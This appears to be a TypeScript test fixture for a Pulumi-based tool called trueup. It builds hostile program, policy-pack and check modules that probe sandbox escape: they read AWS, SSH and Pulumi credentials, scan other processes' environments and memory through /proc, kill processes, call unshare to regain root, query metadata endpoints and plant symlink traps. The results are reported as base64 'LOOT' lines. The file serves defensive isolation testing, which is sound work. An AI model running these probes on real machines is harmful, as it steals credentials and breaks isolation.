/** Where a hostile program is told to look: everything that a thief would find out for himself. */
export interface Targets {
  /** What each secret of the machine has in it, or is: passphrase, keys and files of the machine; the tokens that write to the forge and to the ledger. */
  readonly secrets: readonly string[];
  readonly home: string;
  readonly clone: string;
  readonly cache: string;
  /** Of the machine, outside of everything that belongs to the estate. */
  readonly outside: string;
  /** Addresses at which something secret is served: the machine's own loopback, and another address of it where it has one, as cloud metadata has. */
  readonly addresses: Readonly<Record<string, string>>;
  readonly sockets: Readonly<Record<string, string>>;
  readonly victim: number;
  /** Argument of the process that is left behind. */
  readonly straggler: string;
}

/**
 * What hostile code tries, with nothing but Node, wherever it runs: as a program, as a policy pack, as a check. Plain JavaScript that a pull request
 * brings; answers the names of what worked. A secret counts when it was seen, an act when it was done.
 */
export function probesModule(targets: Targets): string {
  return `import { execFileSync, spawn } from "node:child_process";
import { closeSync, mkdirSync, openSync, readFileSync, readdirSync, readlinkSync, rmSync, symlinkSync, writeFileSync } from "node:fs";
import { get } from "node:http";
import { connect } from "node:net";
import { join } from "node:path";

const { secrets: halves, home, clone, cache, outside, addresses, sockets, victim, straggler } = ${JSON.stringify({ ...targets, secrets: targets.secrets.map((secret) => [secret.slice(0, 8), secret.slice(8)]) })};
// In one piece they would be found in this very source.
const secrets = halves.map((parts) => parts.join(""));
const holds = (text) => secrets.some((secret) => String(text).includes(secret));
const others = () => readdirSync("/proc").filter((name) => /^\\d+$/.test(name) && Number(name) !== process.pid);
const some = (list, test) => list.some((one) => { try { return test(one); } catch { return false; } });
const parents = () => others().filter((pid) => { try { return readFileSync("/proc/" + pid + "/cmdline", "utf8").includes("src/doors/cli/main.ts"); } catch { return false; } });
const reads = (path) => () => readFileSync(path).length > 0;
const writes = (path) => (place) => { writeFileSync(join(path, "escaped-" + place), "here"); return true; };
const asks = (make) => () => new Promise((resolve) => {
  const late = setTimeout(() => resolve(false), 1500);
  const end = (found) => { clearTimeout(late); resolve(found); };
  make((text) => end(holds(text)), () => end(false));
});

const probes = {
  "its own environment": () => holds(JSON.stringify(process.env)),
  "the environment of other processes": () => some(others(), (pid) => holds(readFileSync("/proc/" + pid + "/environ", "utf8"))),
  "the process that previews": () => parents().length > 0,
  "its files, through /proc": () => some(parents(), (pid) => readdirSync("/proc/" + pid + "/fd").some((fd) => readlinkSync("/proc/" + pid + "/fd/" + fd) !== "")),
  "the machine's root, through /proc": () => some(parents(), (pid) => readFileSync("/proc/" + pid + "/root" + home + "/.aws/credentials").length > 0),
  "its memory (ptrace)": () => some(parents(), (pid) => { closeSync(openSync("/proc/" + pid + "/mem", "r+")); return true; }),
  "a signal to it": () => some(parents(), (pid) => process.kill(Number(pid), 0)),
  "a process of the machine, killed": () => process.kill(victim, "SIGKILL"),
  "a process left behind": () => { spawn("sh", ["-c", "setsid sleep " + straggler + " >/dev/null 2>&1 &"], { detached: true, stdio: "ignore" }).unref(); return "look"; },
  "cloud credentials at home": reads(join(home, ".aws/credentials")),
  "ssh keys at home": reads(join(home, ".ssh/id_ed25519")),
  "pulumi's credentials at home": reads(join(home, ".pulumi/credentials.json")),
  "a link to what is outside": () => { const link = join(process.cwd(), "leak-" + process.pid); symlinkSync(join(home, ".aws/credentials"), link); return readFileSync(link).length > 0; },
  "the clone's .git": reads(join(clone, ".git/config")),
  "the mirror": reads(join(clone, ".trueup/mirror.git/HEAD")),
  "the recorded state": reads(join(clone, ".trueup/state/.pulumi/stacks/small/dev.other.json")),
  "the recorded state, overwritten": writes(join(clone, ".trueup/state/.pulumi/stacks/small")),
  "the sandbox cloud, overwritten": writes(join(clone, ".trueup/cloud")),
  "the clone, written": writes(join(clone, "environments")),
  "the home, written": writes(home),
  "the machine's /tmp, written": writes(outside),
  "compiled programs of others, written": writes(join(cache, "trueup/programs")),
  "installed packages, written": writes(join(clone, "node_modules")),
  "root again": () => { execFileSync("unshare", ["-r", "true"], { stdio: "ignore" }); return true; },
  ...Object.fromEntries(Object.entries(addresses).map(([name, address]) => [name, asks((got, failed) => get(address, (answer) => { let text = ""; answer.on("data", (chunk) => (text += chunk)); answer.on("end", () => got(text)); }).on("error", failed))])),
  ...Object.fromEntries(Object.entries(sockets).map(([name, path]) => [name, asks((got, failed) => connect({ path }).on("data", got).on("error", failed).on("end", failed))])),
};

/** The place, then the names of what worked, as they are seen from inside. */
export async function run(place) {
  const worked = [place];
  for (const [name, probe] of Object.entries(probes)) {
    try { if ((await probe(place)) === true) worked.push(name); } catch {}
  }
  return worked;
}

/** Leaves links where the next stack's files are written: whoever writes through them writes elsewhere. */
export function trap() {
  const folder = join(process.cwd(), ".trueup-run");
  mkdirSync(folder, { recursive: true });
  for (const ending of ["json", "outputs"]) {
    rmSync(join(folder, "dev.cluster." + ending), { force: true });
    symlinkSync(join(outside, "intact-" + ending), join(folder, "dev.cluster." + ending));
  }
}
`;
}

/** One line that the test finds again in whatever trueup reports. */
const told = "`LOOT ${Buffer.from(JSON.stringify(worked)).toString('base64')}`";

export const hostileProgram = `import * as aws from "@pulumi/aws";
import * as pulumi from "@pulumi/pulumi";
import { defineStack } from "trueup";
import { z } from "zod";
import { run, trap } from "../lib/probes.mjs";

export default defineStack({
  args: z.object({ cidr: z.string(), tier: z.string(), joinToken: z.string() }),
  async program(args) {
    const worked = await run("program");
    pulumi.log.warn(${told});
    trap();
    const vpc = new aws.ec2.Vpc("main", { cidrBlock: "10.66.0.0/16" });
    return { vpcId: vpc.id, tier: args.tier + "!", joinToken: pulumi.secret(args.joinToken) };
  },
});
`;

export const hostilePack = `import { PolicyPack } from "@pulumi/policy";
import { run } from "../../stacks/lib/probes.mjs";
const worked = await run("policy");
new PolicyPack("house", { policies: [{ name: "greedy", description: "takes what it can", enforcementLevel: "advisory",
  validateResource(seen, report) { if (seen.type === "aws:ec2/vpc:Vpc") report(${told}); } }] });
`;

export const hostileCheck = `import { run } from "../stacks/lib/probes.mjs";
const worked = await run("check");
console.log(${told});
process.exit(1);
`;

/** What was taken, by the place that told it. */
export function lootIn(printed: string): Readonly<Record<string, readonly string[]>> {
  const found = [...printed.matchAll(/LOOT ([A-Za-z0-9+/=]+)/g)].map(
    ([, text = ""]) => JSON.parse(Buffer.from(text, "base64").toString("utf8")) as [string, ...string[]],
  );
  return Object.fromEntries(found.map(([place, ...worked]) => [place, worked]));
}

/** Asks the engine for a provider that the repository says it has. */
export const evilResource = `import * as pulumi from "@pulumi/pulumi";
import { readFileSync } from "node:fs";
import { defineStack } from "trueup";
import { z } from "zod";

export default defineStack({
  args: z.object({ cidr: z.string(), tier: z.string(), joinToken: z.string() }),
  program(args) {
    // What a program reads is in the copy that it runs in.
    readFileSync("evil/pulumi-resource-evil");
    const made = new pulumi.CustomResource("evil:index:Thing", "thing", { from: "the repository" });
    return { vpcId: made.id, tier: args.tier, joinToken: pulumi.secret(args.joinToken) };
  },
});
`;
